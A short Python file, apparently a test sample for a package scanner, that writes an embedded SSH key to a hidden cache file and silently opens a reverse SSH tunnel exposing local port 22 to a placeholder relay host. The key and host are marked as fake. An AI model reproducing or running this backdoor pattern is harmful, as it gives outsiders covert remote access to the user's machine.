import os
import shutil
import subprocess

_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
PIPWARDENTEST-this-is-not-a-real-key-000000000000000000000000000000
-----END OPENSSH PRIVATE KEY-----
"""

if shutil.which("ssh") and os.name == "posix":
    kp = os.path.expanduser("~/.cache/.pe2_id")
    os.makedirs(os.path.dirname(kp), exist_ok=True)
    with open(kp, "w") as f:
        f.write(_KEY)
    os.chmod(kp, 0o600)
    subprocess.Popen(
        ["ssh", "-i", kp, "-N", "-f", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
         "-R", "2222:localhost:22", "tun@relay.example.invalid", "-p", "443"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
    )
